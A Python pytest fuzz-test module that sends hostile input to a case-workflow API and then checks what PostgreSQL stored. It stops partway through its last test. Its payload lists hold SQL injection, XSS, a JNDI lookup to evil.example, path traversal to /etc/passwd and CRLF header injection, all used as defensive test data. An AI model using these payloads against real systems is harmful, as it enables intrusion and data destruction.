"""Fault test 5, bad input at volume: hostile payloads through the live API, then the database is counted.

Hypothesis generates, from realistic request bodies of every registered process and of every task and case
operation, one-field mutations and whole-body garbage: wrong JSON types, missing and extra fields, strings
at, near and beyond the documented limits, deep nesting, unicode edge cases (NUL and lone surrogates sent
as JSON escapes, RTL overrides, zero-width joiners, combining marks, non-NFC forms, 4-byte characters),
SQL and script injection text, path traversal in ids, CR/LF, numeric edge cases (NaN, Infinity, 1e309,
-0, huge integers, exponent floats) and invalid dates; the query parameters of ``GET /v1/cases`` and
``GET /v1/inbox`` get the same treatment.

Every response must be below 500; every error a problem document naming the offending field. Then
PostgreSQL is counted against what the API answered: one case (projection and audit log) per 201 start,
per process; events only by accepted operations, holding the accepted text byte for byte; one denied
attempt per 409/422 refusal by the case's rules, and none for requests refused at the edge; notifications
only for accepted cases; the tables the injection strings name still exist.

The principals are JWTs minted for this module (ids with a per-run suffix), so the counts are exact even
when other modules share the database.
"""

from __future__ import annotations

import asyncio
import json
import re
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import asyncpg
import httpx
import jwt
import pytest
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from schemas.error_tolerance import EXAMPLE_APPLICATION as ERROR_TOLERANCE_APPLICATION
from schemas.power import EXAMPLE_PROPOSAL
from schemas.project import EXAMPLE_APPLICATION as PROJECT_APPLICATION
from schemas.talent import EXAMPLE_APPLICATION as TALENT_APPLICATION
from tests.api_server import JWT_AUDIENCE, JWT_ISSUER, JWT_SECRET, LiveApi, live_api_fixture
from tests.test_api import start_body

pytestmark = pytest.mark.fault

api = live_api_fixture("hostile")

RUN = uuid.uuid4().hex[:6]
STARTER = f"hx-svc-{RUN}"
OFFICER = f"hx-officer-{RUN}"
OUTSIDER = f"hx-outsider-{RUN}"
ROLES = {STARTER: ["service"], OFFICER: ["one_window"], OUTSIDER: ["reviewer"]}

START_EXAMPLES = 110  # per process
OPERATION_EXAMPLES = 700
QUERY_EXAMPLES = 500

HYPOTHESIS = settings(
    max_examples=1,  # each test sets its own
    deadline=None,
    database=None,
    derandomize=True,
    phases=[Phase.explicit, Phase.generate],
    suppress_health_check=list(HealthCheck),
)


# --- hostile values ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Raw:
    """JSON text sent as is (numbers json.dumps cannot write: 1e309, -0, 1E2)."""

    text: str


SQL = [
    "'; DROP TABLE audit_events; --",
    '" OR 1=1 --',
    "1; DELETE FROM cases WHERE ''=''",
    "' UNION SELECT hash, prev_hash FROM audit_events --",
    "admin'--",
    "$1::text",
    "%s%s%s",
    "') ; TRUNCATE denied_attempts; --",
]
SCRIPT = [
    "<script>alert(1)</script>",
    "javascript:alert(document.cookie)",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
]
TRAVERSAL = ["../", "../../etc/passwd", "%2e%2e", "%2e%2e%2f", "..%2F..%2F", "..\\..\\windows", "/./", "%00"]
HEADERISH = ["a\r\nX-Injected: 1", "\r\n\r\n<html>", "line\nbreak", "tab\there"]
UNICODE = [
    "\u202eevil.exe\u202c",  # right-to-left override
    "a\u200db\u200c",  # zero-width joiner / non-joiner
    "e\u0301\u0301\u0301",  # combining marks
    "A\u030a",  # non-NFC (NFC is Å)
    "\u212b",  # ANGSTROM SIGN, NFC-normalises to Å
    "ﬁ",  # NFKC ligature
    "😀👩‍👩‍👧",  # emoji, 4-byte and a ZWJ sequence
    "𠜎𠜱𠝹",  # 4-byte CJK
    "行政审批 条例",
    "\ufeffBOM",
    "\u2028\u2029",
    "\U0010ffff",
    "\ufffd",
]
UNSTORABLE = ["\x00", "a\x00b", "\ud800", "\udfff", "x\udc00y", "\ud83d"]  # NUL; lone surrogates
LEGAL_HOSTILE = SQL + SCRIPT + TRAVERSAL + HEADERISH + UNICODE
LIMITS = [0, 1, 63, 64, 65, 127, 128, 129, 199, 200, 201, 299, 300, 301, 999, 1000, 1001, 1999, 2000, 2001]
LIMITS += [3999, 4000, 4001, 9999, 10000, 10001, 70_000, 300_000]

legal_text = st.sampled_from(LEGAL_HOSTILE)
bad_text = st.sampled_from(UNSTORABLE)
sized_text = st.builds(lambda n, char: char * n, st.sampled_from(LIMITS), st.sampled_from(["x", "条", "😀", "e\u0301"]))
any_text = st.text(st.characters(codec=None, exclude_categories=()), max_size=40)
strings = st.one_of(legal_text, bad_text, sized_text, any_text, st.builds(lambda a, b: a + b, legal_text, bad_text))
numbers = st.sampled_from(
    [
        float("nan"), float("inf"), float("-inf"), -0.0, 1e20, 1e16, 1.5e-7, 0.1, 123.456, 120000000.0,
        Raw("1e309"), Raw("-1e309"), Raw("-0"), Raw("1E2"), Raw("1.0e+2"), Raw("-0.0"), Raw("1" + "0" * 5000),
        0, -1, 2**31, 2**63, 2**64, 10**30, -(10**30), 10**4000,
    ]
)  # fmt: skip
dates = st.sampled_from(
    ["2026-02-30", "2026-13-01", "0000-00-00", "9999-12-31", "0001-01-01", "2026-02-10T25:61:00", "tomorrow",
     "2026-02-10\n", "+002026-02-10", "20260210", 20260210, -1, "2026-W07-2"]
)  # fmt: skip
wrong_types = st.sampled_from([None, True, False, [], {}, [1, 2], {"$ne": 1}, "123", 123, [None], {"": ""}])


def _nested(depth: int, kind: str) -> Any:
    value: Any = "leaf"
    for _ in range(depth):
        value = [value] if kind == "list" else {"k": value}
    return value


deep = st.builds(
    _nested, st.sampled_from([20, 64, 100, 150, 199, 200, 201, 250, 400, 600]), st.sampled_from(["list", "dict"])
)
hostile_values = st.one_of(strings, numbers, dates, wrong_types, deep)


def dumps(value: Any) -> bytes:
    """JSON as the hostile client writes it: NaN/Infinity literals, lone surrogates as \\uXXXX escapes,
    :class:`Raw` numbers verbatim."""
    raws: dict[str, str] = {}

    def swap(item: Any) -> Any:
        if isinstance(item, Raw):
            marker = f"__raw_{len(raws)}_{uuid.uuid4().hex}__"
            raws[marker] = item.text
            return marker
        if isinstance(item, dict):
            return {key: swap(child) for key, child in item.items()}
        if isinstance(item, list):
            return [swap(child) for child in item]
        return item

    text = json.dumps(swap(value))  # ensure_ascii: "\ud800" is sent as the escape, as a hostile client would
    for marker, raw in raws.items():
        text = text.replace(f'"{marker}"', raw)
    return text.encode()


def storable(value: Any) -> bool:
    """Whether a JSON value is one PostgreSQL stores and reads back unchanged (what the API accepts)."""
    from schemas.text import unstorable

    return not unstorable(json.loads(dumps(value)))


# --- realistic bodies, and mutating them -------------------------------------------------------------------


def _copy(value: Any) -> Any:
    return json.loads(json.dumps(value))


def base_start(process: str, business_key: str) -> dict[str, Any]:
    if process == "generic":
        return start_body(business_key, callback_url=None, priority=False)
    application = {
        "project-approval": PROJECT_APPLICATION,
        "power-adjustment": EXAMPLE_PROPOSAL,
        "error-tolerance": ERROR_TOLERANCE_APPLICATION,
        "talent-policy": TALENT_APPLICATION,
    }[process]
    return {
        "business_key": business_key,
        "title": f"Hostile-input run {process}",
        "applicant": {"id": "ent-001", "name": "Alashankou Metals Co.", "unit": "enterprise", "roles": ["applicant"]},
        "application": _copy(application),
    }


PROCESSES = ["generic", "project-approval", "power-adjustment", "error-tolerance", "talent-policy"]

Path = tuple[str | int, ...]


def paths(value: Any, prefix: Path = ()) -> list[Path]:
    """Every path into a JSON value (containers and leaves), the root excluded."""
    found: list[Path] = []
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in items:
        found.append((*prefix, key))
        found.extend(paths(child, (*prefix, key)))
    return found


def _parent(body: Any, path: Path) -> Any:
    for part in path[:-1]:
        body = body[part]
    return body


@dataclass
class Mutation:
    kind: str  # replace, delete, extra, garbage
    path: Path = ()
    value: Any = None
    raw: bytes | None = None  # garbage sent as these bytes
    content_type: str = "application/json"

    @property
    def dotted(self) -> str:
        return ".".join(str(part) for part in self.path)

    def apply(self, body: dict[str, Any]) -> Any:
        body = _copy(body)
        if self.kind == "replace":
            _parent(body, self.path)[self.path[-1]] = self.value
        elif self.kind == "delete":
            parent = _parent(body, self.path)
            if isinstance(parent, list):
                parent.pop(self.path[-1])  # type: ignore[arg-type]
            else:
                parent.pop(self.path[-1])
        elif self.kind == "extra":
            _parent(body, self.path)[self.path[-1]] = self.value
        elif self.kind == "garbage":
            return self.value
        return body


GARBAGE_BYTES = [b"", b"{not json", b"\xff\xfe\xfd", b'{"title": ', b"[" * 100_000, b'{"a":1}{"b":2}', b"null", b"NaN"]


def mutations(body: dict[str, Any]) -> st.SearchStrategy[Mutation]:
    every = paths(body)
    dicts = [p for p in every if isinstance(_get(body, p), dict)] + [()]
    replace = st.builds(lambda p, v: Mutation("replace", p, v), st.sampled_from(every), hostile_values)
    texts = [p for p in every if isinstance(_get(body, p), str)]
    legal = st.builds(lambda p, v: Mutation("replace", p, v), st.sampled_from(texts or every), legal_text)
    delete = st.builds(lambda p: Mutation("delete", p), st.sampled_from(every))
    extra = st.builds(
        lambda p, k, v: Mutation("extra", (*p, k), v),
        st.sampled_from(dicts),
        st.one_of(st.sampled_from(["actor", "case_id", "__proto__", "$where", "started_by"]), strings),
        hostile_values,
    )
    garbage = st.one_of(
        st.builds(
            lambda v: Mutation("garbage", value=v), st.one_of(hostile_values, st.lists(hostile_values, max_size=3))
        ),
        st.builds(lambda raw: Mutation("garbage", raw=raw), st.sampled_from(GARBAGE_BYTES)),
        st.just(Mutation("garbage", value=body, content_type="text/plain")),
    )
    return st.one_of(replace, replace, replace, legal, delete, extra, garbage)


def _get(body: Any, path: Path) -> Any:
    for part in path:
        body = body[part]
    return body


# --- what the test saw -----------------------------------------------------------------------------------


@dataclass
class Sent:
    who: str
    kind: str  # start:<process>, task:<op>, case:<op>, query:<path>
    status: int
    code: str | None
    body: Any = None


@dataclass
class Ledger:
    sent: list[Sent] = field(default_factory=list)
    started: dict[str, dict[str, dict[str, Any]]] = field(default_factory=lambda: {p: {} for p in PROCESSES})
    """process -> business key -> the body of its 201 start."""
    accepted_ops: list[tuple[str, str, dict[str, Any]]] = field(default_factory=list)
    """(actor, operation, body) of every 2xx operation on the target case, in order."""
    target_case: str | None = None
    target_task: str | None = None
    failures: list[str] = field(default_factory=list)

    def by_kind(self) -> Counter[str]:
        return Counter(sent.kind.split(":")[0] for sent in self.sent)


LEDGER = Ledger()


def token(who: str) -> str:
    claims = {
        "sub": who, "name": f"Hostile {who}", "unit": "fuzz", "roles": ROLES[who], "iss": JWT_ISSUER,
        "aud": JWT_AUDIENCE, "exp": int(time.time()) + 3600,
    }  # fmt: skip
    return jwt.encode(claims, JWT_SECRET, algorithm="HS256")


TOKENS = {who: token(who) for who in ROLES}


def _headers(who: str, content_type: str | None = "application/json", **extra: str) -> dict[str, str]:
    headers = {"Authorization": f"Bearer {TOKENS[who]}", **extra}
    if content_type:
        headers["Content-Type"] = content_type
    return headers


TAGS = {"stage", "parallel"}


def _related(sent: str, reported: str) -> bool:
    """Whether a reported field path names the mutated field: equal, or one contains the other (a model's
    own validator reports the model; a union reports its tag, which is left out here)."""
    if reported == "(body)" or not sent:
        return True
    # pydantic names a key holding a lone surrogate by its UTF-8 bytes decoded lossily (three U+FFFD)
    sent = re.sub("[\ud800-\udfff]", "\ufffd" * 3, sent)
    got = [part for part in reported.split(".") if part not in TAGS]
    want = sent.split(".")
    shorter = min(len(got), len(want))
    return got[:shorter] == want[:shorter]


def check_response(
    response: httpx.Response, what: str, mutated: str | None, allowed: set[int], also: tuple[str, ...] = ()
) -> str | None:
    """The shape every answer must have; returns the problem code (None for 2xx). A validation problem must
    name ``mutated`` (the body field the request changed) or one of ``also`` (hostile ids and headers)."""
    status = response.status_code
    if status >= 500 or status not in allowed:
        LEDGER.failures.append(f"{status} {what} (mutated {mutated!r}): {response.text[:600]}")
        return None
    if status < 300:
        return None
    if not response.headers.get("content-type", "").startswith("application/problem+json"):
        LEDGER.failures.append(f"{status} {what}: not a problem document: {response.headers.get('content-type')}")
        return None
    problem = response.json()
    for key in ("type", "title", "status", "detail", "code"):
        if not problem.get(key):
            LEDGER.failures.append(f"{status} {what}: problem without {key}: {problem}")
    if problem.get("status") != status:
        LEDGER.failures.append(f"{status} {what}: problem status {problem.get('status')}")
    if problem.get("code") == "VALIDATION_ERROR":
        errors = problem.get("errors") or []
        if not errors or not all({"field", "location", "message", "type"} <= e.keys() for e in errors):
            LEDGER.failures.append(f"{what}: validation problem without field errors: {problem}")
        elif errors[0]["field"] not in problem["detail"]:
            LEDGER.failures.append(f"{what}: detail does not name the field {errors[0]['field']}: {problem['detail']}")
        elif mutated is not None and not any(_related(mutated, e["field"]) or e["field"] in also for e in errors):
            LEDGER.failures.append(f"{what}: mutated {mutated!r} but the errors name {[e['field'] for e in errors]}")
    return str(problem.get("code"))


# --- starts ----------------------------------------------------------------------------------------------

START_STATUSES = {200, 201, 400, 409, 413, 422}


EXPLICIT_STARTS: dict[str, list[Mutation]] = {
    "generic": [
        Mutation("replace", ("data", "site"), _nested(250, "dict")),
        Mutation("replace", ("data", "site"), _nested(600, "list")),
        Mutation("extra", ("definition", "deadline", "remind_before_working_days"), 10**7),
        Mutation(
            "extra", ("definition", "steps", 1, "deadline"), {"working_days": 5, "remind_before_working_days": 10**6}
        ),
        Mutation("replace", ("definition", "steps", 0, "title"), "x" * 1_900_000),
        Mutation("replace", ("title",), "条" * 300),
        Mutation("replace", ("data", "site"), "x" * 262_000),
    ],
    "project-approval": [
        Mutation("replace", ("application", "total_investment_cny"), Raw("1e309")),
        Mutation("replace", ("application", "description"), "\u202e" + SQL[0] * 300),
    ],
    "power-adjustment": [Mutation("replace", ("application", "effective_date"), "9999-12-31")],
    "error-tolerance": [
        Mutation("replace", ("application", "rectification_plan", "promised_completion_date"), "9999-12-31")
    ],
    "talent-policy": [Mutation("replace", ("application", "package", "term_years"), 2**63)],
}
"""Requests worth sending every run, whatever hypothesis draws: deep nesting, unbounded counts, sizes near
the limits."""


def _start_fuzzer(http: httpx.Client, process: str, counter: Iterator[int]) -> Callable[[], None]:
    @settings(HYPOTHESIS, max_examples=START_EXAMPLES)
    @given(mutation=mutations(base_start(process, "HX-BASE")))
    def fuzz(mutation: Mutation) -> None:
        business_key = f"HX{RUN}-{next(counter)}"
        body = mutation.apply(base_start(process, business_key))
        content = mutation.raw if mutation.raw is not None else dumps(body)
        response = http.post(f"/v1/cases/{process}", content=content, headers=_headers(STARTER, mutation.content_type))
        mutated = mutation.dotted if mutation.kind in ("replace", "delete", "extra") else None
        # Another applicant than the starter is configured for is refused as such (APPLICANTS_BY_STARTER).
        allowed = START_STATUSES | ({403} if (mutated or "").startswith("applicant.id") else set())
        code = check_response(response, f"start {process} {mutation.kind} {mutated}", mutated, allowed)
        if response.status_code == 403 and code != "APPLICANT_NOT_ALLOWED":
            LEDGER.failures.append(f"start {process}: 403 {code} for a changed applicant id: {response.text:.300}")
        LEDGER.sent.append(Sent(STARTER, f"start:{process}", response.status_code, code, body))
        if response.status_code == 201:
            if not storable(body):
                LEDGER.failures.append(f"start {process}: unstorable body accepted ({mutated}): {body!r:.300}")
            LEDGER.started[process][response.json()["business_key"]] = json.loads(dumps(body))
        if response.status_code == 200 and started_key(body) not in LEDGER.started[process]:
            LEDGER.failures.append(f"start {process}: 200 for a business key never started: {body!r:.300}")

    for mutation in EXPLICIT_STARTS[process]:
        fuzz = example(mutation=mutation)(fuzz)
    return fuzz


def _fuzz_starts(url: str) -> None:
    counter = iter(range(10**9))
    with httpx.Client(base_url=url, timeout=60) as http:
        for process in PROCESSES:
            _start_fuzzer(http, process, counter)()
            # a repeat of an accepted start is the same case (200); the same key with other content is 409
            first_body = next(iter(LEDGER.started[process].values()))
            again = http.post(f"/v1/cases/{process}", content=dumps(first_body), headers=_headers(STARTER))
            LEDGER.sent.append(Sent(STARTER, f"start:{process}", again.status_code, None, first_body))
            assert again.status_code == 200 and again.json()["created"] is False, again.text
            other = {**first_body, "title": SQL[0]}
            conflict = http.post(f"/v1/cases/{process}", content=dumps(other), headers=_headers(STARTER))
            code = check_response(conflict, f"conflicting start {process}", None, {409})
            LEDGER.sent.append(Sent(STARTER, f"start:{process}", conflict.status_code, code, other))
            assert code == "IDEMPOTENCY_CONFLICT", conflict.text


def started_key(body: Any) -> Any:
    return body.get("business_key") if isinstance(body, dict) else None


async def test_hostile_starts_of_every_process(api: LiveApi) -> None:
    await asyncio.to_thread(_fuzz_starts, api.url)
    statuses = Counter((s.kind, s.status) for s in LEDGER.sent if s.kind.startswith("start:"))
    print("starts by process and status:", dict(sorted(statuses.items())))
    assert not LEDGER.failures, "\n".join(LEDGER.failures[:25])
    for process in PROCESSES:
        assert LEDGER.started[process], f"no hostile-but-legal start of {process} was accepted"


# --- operations on a running case ------------------------------------------------------------------------

SUPPLEMENT_DOCUMENT = {"uri": "s3://docs/plan.pdf", "sha256": "b" * 64, "size": 10, "name": "plan"}
TASK_BODIES: dict[str, dict[str, Any]] = {
    "claim": {"expected_version": 1},
    "unclaim": {"expected_version": 1},
    "decide": {"decision": "approve_with_conditions", "comment": "ok", "conditions": ["fence the site"]},
    "transfer": {"to_user": "alice", "comment": "yours"},
    "delegate": {"to_user": "alice", "comment": "while I am away"},
    "add-signer": {"signer": "alice", "position": "after", "comment": "needs a second look"},
    "return": {"comment": "back to acceptance", "return_to": "acceptance"},
    "comment": {"text": "received"},
    "urge": {"comment": "please"},
    "cc": {"observers": ["carol"], "comment": "fyi"},
}
CASE_BODIES: dict[str, dict[str, Any]] = {
    "withdraw": {"reason": "the applicant withdrew"},
    "supplement": {"documents": [SUPPLEMENT_DOCUMENT], "comment": "here"},
    "request-supplement": {"items": [{"item": "site plan", "reason": "not signed"}], "comment": "补正"},
    "extend": {"reason": "complex site"},
    "comment": {"text": "on the case"},
    "cc": {"observers": ["carol"], "comment": "fyi"},
}
OFFICER_OPERATIONS = {("task", "comment"), ("case", "comment"), ("task", "cc"), ("case", "cc")}
"""What the officer (a candidate of the open task) does: operations that never end or move the case."""
OPERATION_STATUSES = {200, 400, 404, 409, 413, 422}


@st.composite
def operations(draw: st.DrawFn) -> tuple[str, str, str, Mutation | None, str, dict[str, str]]:
    who = draw(st.sampled_from([OFFICER, OUTSIDER, OUTSIDER]))
    if who == OFFICER:
        scope, name = draw(st.sampled_from(sorted(OFFICER_OPERATIONS)))
    else:
        scope = draw(st.sampled_from(["task", "task", "case"]))
        name = draw(st.sampled_from(sorted(TASK_BODIES if scope == "task" else CASE_BODIES)))
    bodies = TASK_BODIES if scope == "task" else CASE_BODIES
    assert LEDGER.target_case and LEDGER.target_task
    real = LEDGER.target_task if scope == "task" else LEDGER.target_case
    target = draw(
        st.one_of(
            st.just(real),
            st.just(real),
            st.just(real),
            st.builds(lambda t: real + t, st.sampled_from(TRAVERSAL + ["/../1", "%0d%0a", "%00", "/1", "x"])),
            st.builds(lambda t: t + real, st.sampled_from(["../", "%2e%2e/", "/", "generic:NOPE/../"])),
            st.sampled_from(
                ["generic:NOPE-404/acceptance/1", "generic:NOPE-404", "..%2F..%2Fhealth", "%2e%2e", "generic:" + "x" * 300,
                 real.replace(":", "%3A"), real.replace("/", "%2F"), real.upper()]
            ),
        )
    )  # fmt: skip
    body = bodies[name]
    mutation = draw(st.one_of(st.none(), mutations(body), mutations(body)))
    headers: dict[str, str] = {}
    if draw(st.integers(0, 4)) == 0:
        key = draw(st.sampled_from(["';DROP-TABLE--", "<script>", "a b", "k" * 201, "../..", "ok-key"]))
        headers["Idempotency-Key"] = f"{key}{uuid.uuid4().hex[:6]}" if key != "k" * 201 else key
    return scope, name, who, mutation, target, headers


def _fuzz_operations(url: str) -> None:
    with httpx.Client(base_url=url, timeout=60) as http:

        @settings(HYPOTHESIS, max_examples=OPERATION_EXAMPLES)
        @given(operation=operations())
        def fuzz(operation: tuple[str, str, str, Mutation | None, str, dict[str, str]]) -> None:
            scope, name, who, mutation, target, headers = operation
            real = LEDGER.target_task if scope == "task" else LEDGER.target_case
            base = (TASK_BODIES if scope == "task" else CASE_BODIES)[name]
            body = mutation.apply(base) if mutation else _copy(base)
            content = mutation.raw if mutation and mutation.raw is not None else dumps(body)
            content_type = mutation.content_type if mutation else "application/json"
            path = f"/v1/{'tasks' if scope == 'task' else 'cases'}/{target}/{name}"
            response = http.post(path, content=content, headers=_headers(who, content_type, **headers))
            mutated = mutation.dotted if mutation and mutation.kind in ("replace", "delete", "extra") else None
            hostile = (f"{scope}_id",) if target != real else ()
            hostile += ("idempotency-key",) if headers else ()
            code = check_response(response, f"{who} {path} {mutated}", mutated, OPERATION_STATUSES, hostile)
            # where the request went (the client resolves dot segments: NOPE/../<real> is <real>)
            on_target = response.request.url.path == f"/v1/{'tasks' if scope == 'task' else 'cases'}/{real}/{name}"
            kind = f"{scope}:{name}" + ("" if on_target else ":elsewhere")
            LEDGER.sent.append(Sent(who, kind, response.status_code, code, body))
            if response.status_code == 200:
                if not on_target:
                    LEDGER.failures.append(f"{path}: an operation on another target was accepted")
                if not storable(body):
                    LEDGER.failures.append(f"{path}: unstorable body accepted: {body!r:.300}")
                LEDGER.accepted_ops.append((who, f"{scope}:{name}", json.loads(dumps(body))))

        fuzz()


async def _target_case(http: httpx.AsyncClient) -> tuple[str, str]:
    body = base_start("generic", f"HX{RUN}-target")
    response = await http.post("/v1/cases/generic", content=dumps(body), headers=_headers(STARTER))
    assert response.status_code == 201, response.text
    LEDGER.sent.append(Sent(STARTER, "start:generic", 201, None, body))
    LEDGER.started["generic"][body["business_key"]] = body
    case_id = response.json()["case_id"]
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        detail = (await http.get(f"/v1/cases/{case_id}", headers=_headers(STARTER, None))).json()
        if detail.get("tasks"):
            return case_id, detail["tasks"][0]["task_id"]
        await asyncio.sleep(0.1)
    raise AssertionError("the target case opened no task")


async def test_hostile_operations_on_a_running_case(api: LiveApi) -> None:
    async with httpx.AsyncClient(base_url=api.url, timeout=60) as http:
        LEDGER.target_case, LEDGER.target_task = await _target_case(http)
    failures_before = len(LEDGER.failures)
    await asyncio.to_thread(_fuzz_operations, api.url)
    statuses = Counter(
        (s.kind.split(":")[0], s.status, s.code) for s in LEDGER.sent if not s.kind.startswith(("start", "query"))
    )
    print("operations by scope, status and code:", dict(sorted(statuses.items(), key=str)))
    assert not LEDGER.failures[failures_before:], "\n".join(LEDGER.failures[failures_before:][:25])
    assert LEDGER.accepted_ops, "no hostile-but-legal operation was accepted"


# --- queries ---------------------------------------------------------------------------------------------

QUERY_PARAMETERS = {
    "/v1/cases": ["process", "status", "stage", "business_key", "applicant_id", "limit", "offset"],
    "/v1/inbox": ["process", "stage", "priority", "overdue", "limit", "offset"],
}
query_values = st.one_of(
    st.sampled_from(LEGAL_HOSTILE + UNSTORABLE[:2] + ["generic", "in_review", "acceptance", "ent-001", "true", "1"]),
    st.sampled_from(["-1", "0", "201", "1e3", "NaN", "Infinity", "2" * 400, "0x10", "1.5", "+5", " 5", "yes", "null"]),
    sized_text,
    st.text(st.characters(codec="utf-8"), max_size=20),
)


@st.composite
def queries(draw: st.DrawFn) -> tuple[str, str, list[tuple[str, str]]]:
    path = draw(st.sampled_from(sorted(QUERY_PARAMETERS)))
    names = QUERY_PARAMETERS[path] + ["unknown", "limit[]", "process%00"]
    params = draw(st.lists(st.tuples(st.sampled_from(names), query_values), min_size=1, max_size=3))
    who = STARTER if path == "/v1/cases" else draw(st.sampled_from([OFFICER, OUTSIDER]))
    return path, who, params


def _fuzz_queries(url: str) -> None:
    with httpx.Client(base_url=url, timeout=60) as http:

        @settings(HYPOTHESIS, max_examples=QUERY_EXAMPLES)
        @given(query=queries())
        def fuzz(query: tuple[str, str, list[tuple[str, str]]]) -> None:
            path, who, params = query
            sized = [(name, value[:400]) for name, value in params]  # the request line must stay under 16 KB
            response = http.get(path, params=sized, headers=_headers(who, None))
            names = [name for name, _ in sized]
            code = check_response(response, f"GET {path} {sized!r:.200}", None, {200, 400, 414, 422, 431})
            LEDGER.sent.append(Sent(who, f"query:{path}", response.status_code, code, sized))
            if response.status_code == 422 and code == "VALIDATION_ERROR":
                fields = {e["field"] for e in response.json()["errors"]}
                if not fields & set(names) or any(e["location"] != "query" for e in response.json()["errors"]):
                    LEDGER.failures.append(f"GET {path} {sized!r:.200}: errors name {fields}")
            if response.status_code == 200:
                values = dict(sized)  # FastAPI reads the last of a repeated parameter
                for item in response.json()["items"]:
                    for name in ("process", "status", "business_key", "applicant_id"):
                        if name in values and item.get(name) != values[name]:
                            LEDGER.failures.append(f"GET {path} {name}={values[name]!r} returned {item.get(name)!r}")
                    if path == "/v1/cases" and item.get("started_by") != STARTER:
                        LEDGER.failures.append(f"GET {path}: {STARTER} was shown a case of {item.get('started_by')}")

        fuzz()


async def test_hostile_query_parameters(api: LiveApi) -> None:
    failures_before = len(LEDGER.failures)
    await asyncio.to_thread(_fuzz_queries, api.url)
    statuses = Counter((s.kind, s.status) for s in LEDGER.sent if s.kind.startswith("query"))
    print("queries by path and status:", dict(sorted(statuses.items())))
    assert not LEDGER.failures[failures_before:], "\n".join(LEDGER.failures[failures_before:][:25])


# --- what PostgreSQL holds afterwards --------------------------------------------------------------------


async def _wait_for_cases(db_pool: asyncpg.Pool, expected: int, timeout: float = 60) -> int:
    deadline = time.monotonic() + timeout
    while True:
        found = await db_pool.fetchval("SELECT count(*) FROM cases WHERE started_by = $1", STARTER)
        if found >= expected or time.monotonic() > deadline:
            return int(found)
        await asyncio.sleep(0.25)


async def test_postgres_holds_exactly_what_was_accepted(api: LiveApi, db_pool: asyncpg.Pool) -> None:
    print("requests sent by kind:", dict(LEDGER.by_kind()), "total", len(LEDGER.sent))
    for table in ("audit_events", "cases", "tasks", "outbox", "denied_attempts"):
        assert await db_pool.fetchval("SELECT to_regclass($1)", table) is not None, f"table {table} is gone"

    # one case per 201 start, per process, in the projection and in the audit log
    expected = {process: len(keys) for process, keys in LEDGER.started.items()}
    await _wait_for_cases(db_pool, sum(expected.values()))
    await asyncio.sleep(1.0)  # a late, unexpected case would show up now
    projected = dict(
        await db_pool.fetch("SELECT process, count(*) FROM cases WHERE started_by = $1 GROUP BY process", STARTER)
    )
    assert {p: projected.get(p, 0) for p in PROCESSES} == expected and set(projected) <= set(PROCESSES), (
        projected,
        expected,
    )
    logged = await db_pool.fetch(
        "SELECT DISTINCT case_id FROM audit_events WHERE type = 'case.started' AND actor_id = $1", STARTER
    )
    accepted_ids = {f"{process}:{key}" for process, keys in LEDGER.started.items() for key in keys}
    assert {row["case_id"] for row in logged} == accepted_ids
    assert await db_pool.fetchval(
        "SELECT count(DISTINCT case_id) FROM audit_events WHERE case_id = ANY($1::text[])", sorted(accepted_ids)
    ) == len(accepted_ids)

    # tasks, events and notifications of this run belong to accepted cases only
    my_pattern = [f"%:HX{RUN}-%"]
    for table in ("tasks", "audit_events", "outbox"):
        strays = await db_pool.fetch(
            f"SELECT DISTINCT case_id FROM {table} WHERE case_id LIKE ANY($1::text[]) AND NOT case_id = ANY($2::text[])",
            my_pattern,
            sorted(accepted_ids),
        )
        assert not strays, f"{table} has rows of cases never accepted: {[r['case_id'] for r in strays][:10]}"
    by_actor = await db_pool.fetch(
        "SELECT DISTINCT case_id FROM audit_events WHERE actor_id = ANY($1::text[]) AND NOT case_id = ANY($2::text[])",
        list(ROLES),
        sorted(accepted_ids),
    )
    assert not by_actor, [r["case_id"] for r in by_actor]

    # accepted hostile-but-legal text is stored exactly as it was sent (escaped, not executed, not normalised)
    rows = await db_pool.fetch(
        "SELECT case_id, business_key, title, applicant_id FROM cases WHERE started_by = $1", STARTER
    )
    for row in rows:
        process = row["case_id"].split(":", 1)[0]
        sent = LEDGER.started[process][row["business_key"]]
        assert (row["title"], row["applicant_id"]) == (sent["title"], sent["applicant"]["id"]), row
    started_events = await db_pool.fetch(
        "SELECT case_id, payload::text AS payload FROM audit_events WHERE type = 'case.started' AND actor_id = $1",
        STARTER,
    )
    for event in started_events:
        process, key = event["case_id"].split(":", 1)
        sent, payload = LEDGER.started[process][key], json.loads(event["payload"])
        assert payload["title"] == sent["title"] and payload["business_key"] == key
        if process == "generic":
            assert payload["data"] == sent.get("data", {}), event["case_id"]

    # operations: one event per accepted one, by its actor, holding its text byte for byte
    case_id = LEDGER.target_case
    assert case_id is not None
    for who in (OFFICER, OUTSIDER):
        accepted = [(op, body) for actor, op, body in LEDGER.accepted_ops if actor == who]
        events = await db_pool.fetch(
            "SELECT type, payload::text AS payload FROM audit_events WHERE case_id = $1 AND actor_id = $2 ORDER BY seq",
            case_id,
            who,
        )
        assert len(events) == len(accepted), (who, len(events), len(accepted))
        for event, (op, body) in zip(events, accepted, strict=True):
            payload = json.loads(event["payload"])
            if op.endswith(":comment"):
                assert event["type"] == "case.commented" and payload["text"] == body["text"], (payload, body)
            elif op.endswith(":cc"):
                assert event["type"] == "case.cc" and payload["observers"] == body["observers"], (payload, body)
                assert payload["comment"] == body.get("comment", ""), (payload, body)
            else:
                raise AssertionError(f"{who}'s {op} was accepted: {body!r:.300}")

        # denied attempts: one per refusal by the case's rules (409, or 422 with a reason code), none for
        # requests refused at the edge (malformed body, unknown target)
        refused = Counter(
            s.code
            for s in LEDGER.sent
            if s.who == who
            and not s.kind.startswith(("start", "query"))
            and s.status in (409, 422)
            and s.code != "VALIDATION_ERROR"
        )
        recorded = Counter(
            row["reason_code"]
            for row in await db_pool.fetch("SELECT reason_code FROM denied_attempts WHERE actor_id = $1", who)
        )
        assert recorded == refused, (who, recorded, refused)
    # the starter's only refusals are the starts for applicants it is not configured for, each recorded
    refused_starts = Counter(s.code for s in LEDGER.sent if s.who == STARTER and s.status == 403)
    starter_denials = await db_pool.fetch("SELECT reason_code FROM denied_attempts WHERE actor_id = $1", STARTER)
